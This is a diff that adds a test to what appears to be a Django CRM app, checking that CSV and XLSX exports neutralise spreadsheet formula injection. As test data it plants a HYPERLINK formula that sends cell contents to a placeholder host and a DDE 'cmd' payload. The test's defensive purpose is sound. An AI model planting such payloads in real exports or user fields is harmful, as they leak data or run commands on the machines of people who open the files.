@@ -327,3 +327,35 @@ def test_export_menu_keeps_the_list_query_string(rf, org, kind):
     for fmt in ("csv", "xlsx", "parquet"):
         assert f'href="/data/export/{kind}.{fmt}?q=%E5%BC%A0"' in html
     assert "Personal data is masked" in html
+
+
+# ----- spreadsheet safety ---------------------------------------------------------------------------------------
+
+
+def test_formula_like_cells_are_neutralized_in_csv_and_stored_as_text_in_xlsx(web_client, api_client, org, data):
+    """A city, a name and the owner's name planted as formulas: CSV cells get the apostrophe mark, XLSX cells are
+    text (never a formula), and a phone number written as text is left alone in both."""
+    from clientwise.customers.models import Customer
+
+    Customer.objects.filter(pk=data.zhang.pk).update(city='=HYPERLINK("http://example.invalid/?d="&A1,"x")',
+                                                     name="@SUM(1+1)")
+    org.rep_a.display_name = "=cmd|' /C calc'!A0"  # a rep may set their own display name
+    org.rep_a.save(update_fields=["display_name"])
+    rows = csv_rows(web_client(org.admin).get("/data/export/customers.csv"))
+    (row,) = [r for r in rows[1:] if r[0] == str(data.zhang.pk)]
+    assert row[1] == "'@SUM(1+1)"
+    assert row[9] == '\'=HYPERLINK("http://example.invalid/?d="&A1,"x")'
+    assert row[10] == "'=cmd|' /C calc'!A0"
+    assert row[5] == "+8613812345678"  # a plain number as text stays as it is
+
+    for response in (web_client(org.admin).get("/data/export/customers.xlsx"),
+                     api_client(org.admin).get("exports/customers", {"format": "xlsx"})):
+        sheet = openpyxl.load_workbook(io.BytesIO(body(response))).worksheets[0]
+        cells = [c for r in sheet.iter_rows() for c in r]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        (values,) = [[c.value for c in r] for r in sheet.iter_rows(min_row=2) if r[0].value == data.zhang.pk]
+        assert values[1] == "@SUM(1+1)" and values[9].startswith("=HYPERLINK(") and values[10] == "=cmd|' /C calc'!A0"
+
+    orders = csv_rows(web_client(org.admin).get("/data/export/orders.csv"))
+    assert all(not cell.startswith(("=", "@")) for r in orders for cell in r)
+    assert any(cell == "'@SUM(1+1)" for r in orders for cell in r)
